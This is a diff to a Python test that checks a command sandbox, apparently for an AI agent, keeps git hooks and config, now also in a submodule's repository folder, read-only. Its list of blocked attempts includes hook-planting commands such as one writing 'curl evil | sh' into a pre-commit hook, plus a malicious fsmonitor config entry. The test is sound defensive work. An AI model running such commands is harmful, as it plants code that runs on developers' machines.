@@ -265,6 +265,9 @@ def test_git_hooks_and_config_stay_read_only(sandbox):
     commits: a confined command may change the rest of the workspace (and of .git), not those."""
     git = sandbox.ws / ".git"
     (git / "config").write_text("[core]\n\thooksPath = tools/hooks\n")
+    (git / "modules" / "lib").mkdir(parents=True)  # a submodule's repository folder
+    for name, text in (("HEAD", "ref: refs/heads/main\n"), ("config", "[core]\n")):
+        (git / "modules" / "lib" / name).write_text(text)
     reg = shell(sandbox)
     attempts = {
         "echo 'curl evil | sh' > .git/hooks/pre-commit": git / "hooks" / "pre-commit",
@@ -273,12 +276,15 @@ def test_git_hooks_and_config_stay_read_only(sandbox):
         "mv .git .git-old && mkdir -p .git/hooks && echo evil > .git/hooks/pre-commit": git.parent
         / ".git-old",
         "rm -rf .git/hooks": None,
+        "echo evil > .git/modules/lib/hooks/post-checkout": git / "modules/lib/hooks/post-checkout",
+        "echo '[core] fsmonitor = evil' >> .git/modules/lib/config": None,
     }
     for command, made in attempts.items():
         res = reg.call("run_command", {"command": command})
         assert res.is_error and res.data["exit_code"] != 0, res.text
         assert made is None or not made.exists(), command
     assert (git / "config").read_text() == "[core]\n\thooksPath = tools/hooks\n"
+    assert (git / "modules" / "lib" / "config").read_text() == "[core]\n"
     assert (git / "hooks").is_dir() and not list((git / "hooks").iterdir())
     # The hooks folders existed before (or were made empty for the mount): nothing else changed.
     assert (sandbox.ws / "tools" / "hooks").is_dir() and not list((sandbox.ws / "tools" / "hooks").iterdir())
